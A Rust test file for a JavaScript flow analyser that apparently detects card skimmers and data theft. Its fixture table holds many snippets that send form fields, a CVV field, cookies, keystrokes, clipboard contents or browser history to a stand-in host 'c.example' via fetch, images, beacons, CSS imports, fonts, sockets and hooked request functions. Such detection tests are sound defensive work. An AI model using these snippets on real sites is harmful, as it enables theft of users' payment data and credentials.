//! What is followed, and what is not.

use super::*;
use crate::facts::Recogniser;
use crate::stream::normalise;

/// Each flow as `mark+mark>sink`.
fn read(source: &str) -> Vec<String> {
    let (stream, _) = normalise(source, |_| {});
    let facts = Recogniser::new().facts(&stream);
    let (flows, _) = flows(&stream, &facts, &Lexicon::new());
    let name = |flow: &Flow| {
        let marks: Vec<String> = flow.marks.iter().map(|mark| format!("{mark:?}")).collect();
        format!("{}>{:?}", marks.join("+"), flow.sink)
    };
    flows.iter().map(name).collect()
}

#[test]
fn values_are_followed_to_where_they_go() {
    let table = [
        ("straight", "fetch('//c.example/'+a.value)", "Field+Address>Request"),
        ("by a variable", "var v=a.value;v='x'+v;new Image().src=v", "Field+ImageElement>Fetched"),
        ("before it is assigned", "function s(){b.src=v}v=a.value", "Field>Fetched"),
        (
            "in a default",
            "(function(a=(()=>{fetch('//c.example/'+q.value)})()){})()",
            "Field+Address>Request",
        ),
        (
            "after a default",
            "(function(a=()=>1,b){new Image().src=b})(0,q.value)",
            "Field+ImageElement>Fetched",
        ),
        ("by a property", "this.q={};this.q.k=a.value;navigator.sendBeacon(u,this.q)", "Field>Beacon"),
        (
            "by an argument",
            "function send(d){navigator.sendBeacon(u,d)}send(btoa(a.value))",
            "Field+Base64>Beacon",
        ),
        (
            "by an object that is handed over",
            "function fill(o){o.k=a.value}var d={};fill(d);i.src=d.k",
            "Field>Fetched",
        ),
        (
            "not to other objects",
            "function fill(o){return o.k}var d={},e=a.value;fill(e);fill(d);i.src=d",
            "",
        ),
        (
            "by a form",
            "new Ajax.Request('//c.example',{parameters:Form.serialize(q)})",
            "Field+Address>Request",
        ),
        (
            "by a constructor",
            "function A(d){this.d=d}A.prototype.send=function(){i.src=this.d};new A(q.value).send()",
            "Field>Fetched Field>Request",
        ),
        ("by an event", "bus.on('order',d=>{i.src=d});bus.emit('order',q.value)", "Field>Fetched"),
        (
            "by an event of jQuery",
            "$(document).on('a:b',function(e,d){i.src=d});$(document).trigger('a:b',[q.value])",
            "Field>Fetched",
        ),
        ("not by another event", "bus.on('order',d=>{i.src=d});bus.emit('visit',q.value)", ""),
        (
            "by a message",
            "addEventListener('message',e=>{i.src=e.data});postMessage(q.value,'*')",
            "Field+Remote>Fetched Field>Message",
        ),
        (
            "not by a message to another page",
            "addEventListener('message',e=>{i.src=e.data});parent.postMessage(q.value,'*')",
            "Remote>Fetched Field>Message",
        ),
        ("by what is thrown", "try{throw q.value}catch(e){i.src=e}", "Field>Fetched"),
        ("by what a pattern found", "/(.*)/.test(q.value);i.src=RegExp.$1", "Field>Fetched"),
        ("by the window's name", "window.name=q.value;i.src=window.name", "Field>Fetched"),
        ("by the address", "location.hash=q.value;i.src=location.hash", "Field+Page>Fetched"),
        (
            "by a file that is read",
            "var r=new FileReader;r.onload=e=>{i.src=e.target.result};r.readAsText(new Blob([q.value]))",
            "Field+Blob>Fetched",
        ),
        (
            "by a database",
            "db.transaction('s').objectStore('s').put(q.value,'k');g.onsuccess=e=>{i.src=e.target.result}",
            "Field>Fetched",
        ),
        ("by a library's store", "$('body').data('k',q.value);i.src=$('body').data('k')", "Field>Fetched"),
        (
            "by a property of a style",
            "s.setProperty('--k',q.value);i.src=s.getPropertyValue('--k')",
            "Field>Fetched",
        ),
        (
            "by a list of functions",
            "var l=[];function on(f){l.push(f)}on(d=>{i.src=d});l.forEach(f=>f(q.value))",
            "Field>Fetched",
        ),
        ("by a function that a function returns", "const to=u=>d=>{i.src=d};to(1)(q.value)", "Field>Fetched"),
        (
            "by a function of that kind with a name",
            "function to(u){return function(d){i.src=d}}var s=to(1);s(q.value)",
            "Field>Fetched",
        ),
        (
            "by a function of text",
            "new Function('d','document.images[0].src = d;')(q.value)",
            "Field>Fetched",
        ),
        (
            "into another page",
            "chrome.scripting.executeScript({func:d=>{i.src=d},args:[q.value]})",
            "Field>Fetched Field>Spender Field>Amount",
        ),
        (
            "of the element that an event happens to",
            "q.querySelector('[name=cvv]').addEventListener('change',function(){i.src=this.value})",
            "Field+Card+Secret>Fetched",
        ),
        (
            "as all fields give it",
            "var d=Object.getOwnPropertyDescriptor(HTMLInputElement.prototype,'value');i.src=d.get.call(q)",
            "Field>Fetched",
        ),
        (
            "as it is written",
            "q.addEventListener('beforeinput',e=>{i.src=e.data})",
            "TypedKey+Remote>Fetched",
        ),
        (
            "into an object",
            "var o=document.createElement('object');o.data='https://c.example/?'+q.value",
            "Field+Address>Fetched",
        ),
        (
            "into a style",
            "s.textContent='@import \"https://c.example/?'+q.value+'\"'",
            "Field+Address>Fetched",
        ),
        ("into a font", "new FontFace('f','url(https://c.example/?'+q.value+')')", "Field+Address>Fetched"),
        (
            "into markup of jQuery",
            "$('body').append('<img src=https://c.example/?'+q.value+'>')",
            "Field+Address+ImageElement>Markup",
        ),
        ("not into what else is appended", "list.append('<',q.value)", "Field>Markup"),
        ("into what jQuery loads", "$('<i>').load('https://c.example/?'+q.value)", "Field+Address>Request"),
        (
            "into a picture of SVG",
            "s.setAttributeNS(ns,'href','https://c.example/?'+q.value)",
            "Field+Address>Fetched",
        ),
        (
            "into a page that follows",
            "m.content='0;url=https://c.example/?'+q.value",
            "Field+Address>Navigation",
        ),
        ("not by a table", "var t={a:'x',b:'y'};onkeydown=e=>{i.src=t[e.key]}", ""),
        ("by a pattern", "const {value}=e.target;i.src=value", "Field>Fetched"),
        ("by a pattern that renames", "const {value:v='',name}=e.target;i.src=v", "Field>Fetched"),
        ("by a pattern in a pattern", "const {target:{value}}=e;i.src=value", "Field>Fetched"),
        ("by a pattern of a loop", "for(const {name,value} of q.elements)i.src=value", "Field>Fetched"),
        (
            "by a form that is made",
            "var f=document.createElement('form');f.action='//c.example';var i=document.createElement('input');i.setAttribute('value',q.value);f.appendChild(i);f.submit()",
            "Field+Address>FormTarget",
        ),
        (
            "not by a page",
            "var p=document.createElement('p');p.title=q.value;document.body.appendChild(p);i.src=document.body",
            "",
        ),
        (
            "by a form that is made of keys",
            "var f=Object.assign(document.createElement('form'),{action:'//c.example'});f.append(Object.assign(document.createElement('input'),{value:q.value}));f.submit()",
            "Field+Address>FormTarget Field>Amount",
        ),
        ("into a handler", "i.setAttribute('onload',atob(t))", "Decoded>Code"),
        ("into a text of a handler", "i.setAttribute('onclick','go('+atob(t)+')')", ""),
        (
            "by what an extension is told",
            "chrome.history.search({},h=>q.push(...h));fetch('https://c.example/',{body:q})",
            "Address+BrowserData>Request",
        ),
        (
            "a page of the site",
            "fetch('/mail').then(r=>r.text()).then(t=>{i.src='//c.example/'+t})",
            "Address+Remote+Own>Fetched",
        ),
        ("by a short table", "onkeydown=e=>navigator.sendBeacon(u,{b:'bold',i:'italic'}[e.key])", ""),
        (
            "by a pattern without a declaration",
            "let cookie;({cookie}=document);i.src=cookie",
            "Cookie+AllCookies>Fetched",
        ),
        ("not by another part", "const {value,name}=e.target;i.src=name", ""),
        ("not by an object", "use({value});i.src=q", ""),
        ("cookies by a pattern", "const {cookie}=document;i.src=cookie", "Cookie+AllCookies>Fetched"),
        (
            "cookies by a pattern of the window",
            "const {document:{cookie:c}}=window;i.src=c",
            "Cookie+AllCookies>Fetched",
        ),
        ("one cookie by a pattern", "const {cookie:c}=document;i.src=c.split('; ')[0]", "Cookie>Fetched"),
        ("not all cookies of a request", "const {cookie}=request.headers;i.src=cookie", "Cookie>Fetched"),
        ("by a return value", "function get(){return a.value}location=get()", "Field>Navigation"),
        ("by a function in a variable", "var f=(d)=>{i.src=d};f(a.value)", "Field>Fetched"),
        ("by a method", "var o={f:function(d){i.src=d}};o.f(a.value)", "Field>Fetched"),
        ("by a called function expression", "(function(d){i.src=d})(a.value)", "Field>Fetched"),
        ("by a list", "var l=[];l.push(a.value);eval(l.join(''))", "Field>Code"),
        ("added to", "var v='';v+=a.value+'&';i.src=v", "Field>Fetched"),
        ("by arguments", "function s(){i.src=arguments[1]}s(0,a.value)", "Field>Fetched"),
        ("not by another argument", "function s(){i.src=arguments[0]}s(0,a.value)", ""),
        ("not by all arguments", "function s(){i.src=f.apply(this,arguments)}s(a.value)", ""),
        ("by a timer's argument", "setTimeout(function(v){i.src=v},9,a.value)", "Field>Fetched"),
        ("by an attribute", "b.setAttribute('q',a.value);i.src=b.getAttribute('q')", "Field+Given>Fetched"),
        (
            "not by another attribute",
            "b.setAttribute('q',a.value);i.src=b.getAttribute('r')",
            "Given>Fetched",
        ),
        ("by a proxy", "var p=new Proxy({},{get:()=>a.value});i.src=p.x", "Field>Fetched"),
        (
            "by a defined property",
            "Object.defineProperty(o,'q',{get(){return a.value}});i.src=o.q",
            "Field>Fetched",
        ),
        ("by an object as a text", "var o={toString(){return a.value}};i.src='x'+o", "Field>Fetched"),
        ("by a sender that is given", "(f=>f('//c.example/'+a.value))(fetch)", "Field+Address>Request"),
        ("by a sender of a choice", "(z?fetch:g)('//c.example/'+a.value)", "Field+Address>Request"),
        ("by a sender or another", "(window.fetch||g)('//c.example/'+a.value)", "Field+Address>Request"),
        ("not by what a sender answers", "(await fetch(u)||g)(a.value)", ""),
        ("cookies by their name", "i.src=Reflect.get(document,'cookie')", "Cookie>Fetched"),
        (
            "added to a property in a condition",
            "var o={s:null,c:function(){for(var i=0;i<q.length;i++){if(q[i].value.length>0){o.s+=q[i].name+'='+q[i].value+'&'}}},d:function(){var e=btoa(o.s);x.send(e)}}",
            "Field+Base64>Request",
        ),
        ("by a loop", "for(var k of l){i.src=k}l=[a.value]", "Field>Fetched"),
        ("by a callback", "[a.value].forEach(function(e){i.src=e})", "Field>Fetched"),
        (
            "by a request",
            "var x=new XMLHttpRequest;x.open('POST','//c.example');x.send(a.value)",
            "Field+Address>Request",
        ),
        ("an attribute", "i.setAttribute('src',a.value)", "Field>Fetched"),
        (
            "element and address",
            "var s=document.createElement('script');s.src='//c.example/a.js'",
            "Address+ScriptElement>Fetched",
        ),
        ("by a pattern", "const {a,b}=f.value;i.src=b", "Field>Fetched"),
        ("by a pattern in a loop", "for(const [k,v] of l){i.src=v}l=[a.value]", "Field>Fetched"),
        ("by a pattern of parameters", "function s({m,n}){i.src=n}s({n:a.value})", "Field>Fetched"),
        ("by the result of a callback", "var l=q.map(e=>e.value);i.src=l.join()", "Field>Fetched"),
        (
            "by the storage",
            "localStorage.setItem('k',a.value);i.src=localStorage.getItem('k')",
            "Field+Storage>Stored Field+Storage>Fetched",
        ),
        (
            "not by another key of the storage",
            "localStorage.setItem('k',a.value);i.src=localStorage.getItem('l')",
            "Field+Storage>Stored Storage>Fetched",
        ),
        (
            "by a chain that the browser begins",
            "navigator.clipboard.readText().then(t=>{i.src=t})",
            "Clipboard>Fetched",
        ),
        ("by all fields of a form", "new FormData(f).forEach((v,k)=>{i.src=v})", "Field>Fetched"),
        ("by a replaced function", "XMLHttpRequest.prototype.send=function(d){i.src=d}", "Hooked>Fetched"),
        (
            "by the arguments of a replaced function",
            "window.fetch=function(){i.src=JSON.stringify(arguments)}",
            "Json+Hooked>Fetched",
        ),
        (
            "to a processor of payments",
            "fetch('https://api.stripe.com/v1/tokens',{body:a.value})",
            "Field>Request",
        ),
        (
            "by markup",
            "document.write('<img src=//c.example/?'+a.value+'>')",
            "Field+Address+ImageElement>Markup Field+Address+ImageElement>Written",
        ),
        (
            "by a key that is taken out of an event",
            "d.addEventListener('keyup',({key})=>{b+=key});i.src=b",
            "TypedKey>Fetched",
        ),
        ("not by a key of something else", "d.addEventListener('click',({key})=>{b+=key});i.src=b", ""),
        (
            "by the value of a target",
            "f.oninput=({target:{name,value}})=>{i.src=name+value}",
            "Field>Fetched",
        ),
        ("by a value that is taken out", "const {value}=d.querySelector('#q');i.src=value", "Field>Fetched"),
        ("not by what is read from a stream", "const {value,done}=await r.read();i.src=value", ""),
        (
            "by fields that are taken apart",
            "d.querySelectorAll('input').forEach(({name,value})=>{o[name]=value});i.src=q(o)",
            "Field>Fetched",
        ),
        ("by a function that a list is made with", "i.src=Array.from(q,e=>e.value).join()", "Field>Fetched"),
        ("by a borrowed method", "i.src=[].map.call(q,function(e){return e.value})", "Field>Fetched"),
        (
            "by a text that a callback adds to",
            "var s='';l.forEach(function(e){s+=e.value});i.src='//c.example/?'+s",
            "Field+Address>Fetched",
        ),
        (
            "by a list that a callback adds to",
            "var s=[];l.each(function(e){s.push(e.value)});i.src=s.join()",
            "Field>Fetched",
        ),
        (
            "by an object that a callback fills",
            "var o={};l.forEach(e=>{o[e.name]=e.value});i.src=Object.keys(o).map(k=>o[k]).join()",
            "Field>Fetched",
        ),
        ("by a promise", "new Promise(done=>{done(a.value)}).then(v=>{i.src=v})", "Field>Fetched"),
        (
            "by a method that browsers have",
            "var o={send(d){i.src=d}};o.send(a.value)",
            "Field>Fetched Field>Request",
        ),
        ("not by one of the browser", "var o={log(d){i.src=d}};console.log(a.value)", ""),
        ("by an async method", "class A{async go(d){i.src=d}}new A().go(a.value)", "Field>Fetched"),
        (
            "by a static method",
            "class A{static send(d){i.src=d}}A.send(a.value)",
            "Field>Fetched Field>Request",
        ),
        (
            "by a property of this that browsers have",
            "class A{k(e){this.data+=e.value}s(){i.src=this.data}}",
            "Field>Fetched",
        ),
        ("by a global that is a function", "leak=function(d){i.src=d}\nleak(a.value)", "Field>Fetched"),
        ("by a global that nobody declares", "key=a.value;i.src=key", "Field>Fetched"),
        ("by a function of the window", "window.f=function(d){i.src=d};f(a.value)", "Field>Fetched"),
        ("into another object", "var o={};Object.assign(o,{k:a.value});i.src=q(o)", "Field>Fetched"),
        (
            "by a socket of a library",
            "const s=io('https://c.example');s.emit('k',a.value)",
            "Field+Address>Socket",
        ),
        ("not by an event", "bus.emit('k',a.value)", ""),
        ("to a database", "set(ref(db,'k'),{k:a.value})", "Field>Request"),
        ("to a database, by its collection", "db.collection('k').add({k:a.value})", "Field>Request"),
        ("to what an extension stores", "chrome.storage.local.set({k:a.value})", "Field>Kept"),
        (
            "by a beacon of another name",
            "const b=navigator.sendBeacon.bind(navigator);b(u,a.value)",
            "Field>Request",
        ),
        (
            "by what others change later",
            "var b='';function s(){i.src='//c.example/?'+b}s();a.oninput=function(){b+=a.value}",
            "Field+Address>Fetched",
        ),
        (
            "by an object that others fill later",
            "var o={b:''};function s(){i.src='//c.example/?'+o.b}s();a.oninput=function(){o.b+=a.value}",
            "Field+Address>Fetched",
        ),
        (
            "by a list that others fill later",
            "var b=[];q(()=>{i.src='//c.example/?'+b.join('')});a.oninput=function(){b.push(a.value)}",
            "Field+Address>Fetched",
        ),
        ("by what a parameter is by default", "function f(u=a.value){i.src=u}f()", "Field>Fetched"),
        ("by no parameter that a default names", "function f(u=w,v){i.src=v}f(0,a.value)", "Field>Fetched"),
        ("by a getter", "const o={get x(){return a.value}};i.src=o.x", "Field>Fetched"),
        ("by a setter", "const o={set x(v){i.src=v}};o.x=a.value", "Field>Fetched"),
        (
            "by what a generator gives",
            "function*g(){yield a.value}for(const v of g()){i.src=v}",
            "Field>Fetched",
        ),
        ("by a field of a class", "class A{d=a.value;s(){i.src=this.d}}new A().s()", "Field>Fetched"),
        ("by a private field", "class A{#d=a.value\ns(){i.src=this.#d}}new A().s()", "Field>Fetched"),
        ("by a static field", "class A{static d=a.value}i.src=A.d", "Field>Fetched"),
        ("by a function in a field", "class A{s=d=>{i.src=d}}new A().s(a.value)", "Field>Fetched"),
        (
            "by a key of what is assigned",
            "Object.assign(new Image(),{src:a.value})",
            "Field+ImageElement>Fetched",
        ),
        ("not by a key of settings", "make(q,{src:a.value})", ""),
        ("by a bound argument", "function s(d){i.src=d}const t=s.bind(null,a.value);t()", "Field>Fetched"),
        ("by a borrowed function", "function s(d){i.src=d}s.call(null,a.value)", "Field>Fetched"),
        ("by a list of arguments", "function s(d){i.src=d}s.apply(null,[a.value])", "Field>Fetched"),
        ("by a borrowed request", "fetch.apply(null,['//c.example/'+a.value])", "Field+Address>Request"),
        (
            "by a reflected call",
            "Reflect.apply(fetch,null,['//c.example/'+a.value])",
            "Field+Address>Request",
        ),
        ("by a reflected property", "Reflect.set(i,'src',a.value)", "Field>Fetched"),
        ("by an optional call", "window.fetch?.('//c.example/'+a.value)", "Field+Address>Request"),
        ("by the last of several", "(0,fetch)('//c.example/'+a.value)", "Field+Address>Request"),
        (
            "by a request of another name",
            "const {fetch:f}=window;f('//c.example/'+a.value)",
            "Field+Address>Request",
        ),
        (
            "by a request that is chosen",
            "const f=z?fetch:y;f('//c.example/'+a.value)",
            "Field+Address>Request",
        ),
        (
            "by a request in a property",
            "const s={go:fetch};s.go('//c.example/'+a.value)",
            "Field+Address>Request",
        ),
        (
            "by a request that is handed over",
            "['//c.example/?'+a.value].forEach(fetch)",
            "Field+Address>Request",
        ),
        ("by a function that is handed over", "function s(d){i.src=d}[a.value].forEach(s)", "Field>Fetched"),
        (
            "by a function that a timer calls",
            "function s(d){i.src=d}setTimeout(s,100,a.value)",
            "Field>Fetched",
        ),
        ("by a pattern that is not declared", "q();[x]=[a.value];i.src=x", "Field>Fetched"),
        (
            "not by what passes others' requests on",
            "var f=window.fetch;window.fetch=function(...r){return f.apply(this,r)}",
            "",
        ),
        ("without semicolons", "var v = 1\nw = a.value\ni.src = v", ""),
        ("other variable", "var v=a.value;i.src=w", ""),
        ("other function's variable", "function f(){var v=a.value}function g(v){i.src=v}", ""),
        ("compared", "if(a.value=='x'){i.src=b}", ""),
        ("written", "a.value=b;i.src=a", ""),
        ("relative address", "i.src='/logo.png'", ""),
    ];
    let failed: Vec<String> = table
        .iter()
        .map(|(name, source, want)| (name, read(source).join(" "), want))
        .filter(|(_, got, want)| got != *want)
        .map(|(name, got, want)| format!("{name}: {got} for {want}"))
        .collect();
    assert!(failed.is_empty(), "{}", failed.join("\n"));
}

#[test]
fn unbalanced_text_is_walked_to_its_end() {
    for source in
        [")]}".repeat(500), "(a=[{b:".repeat(500), "f(function(a){".repeat(500), "a=>b=>".repeat(5_000)]
    {
        read(&format!("{source};i.src=a.value"));
    }
}

#[test]
fn brackets_that_no_browser_parses_hide_nothing_around_them() {
    let attack = "fetch('//c.example/'+a.value)";
    for (open, close) in [("(", ")"), ("[", "]"), ("f(", ")"), ("{", "}"), ("a=[", "]"), ("a=>(", ")")] {
        for depth in [crate::limits::NESTING - 2, crate::limits::NESTING, crate::limits::NESTING + 3] {
            let nested = format!("{}0{}", open.repeat(depth), close.repeat(depth));
            for source in [format!("{nested};{attack}"), format!("{attack};{nested}")] {
                assert_eq!(read(&source), ["Field+Address>Request"], "{depth} times {open}");
            }
        }
    }
}
